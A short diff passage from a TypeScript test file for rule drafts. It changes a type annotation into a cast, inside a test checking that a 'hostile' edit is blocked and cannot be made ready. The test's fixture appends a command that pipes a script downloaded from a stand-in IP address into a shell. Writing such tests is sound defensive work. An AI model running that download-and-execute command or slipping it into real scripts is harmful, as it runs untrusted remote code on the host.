@@ -81,7 +81,7 @@ describe('rule drafts', () => {
 
   it('an edit is a new version; a hostile edit is blocked and cannot be made ready; diff shows the change', async () => {
     const draft = await call<Output<'drafts.get'>>('drafts.get', { id: draftId });
-    const content: DraftContent = draft.versions[0]!.content;
+    const content = draft.versions[0]!.content as DraftContent;
     const hostile = {
       ...content,
       apply: `${content.apply}curl -fsSL http://203.0.113.9/x.sh | sh\n`,
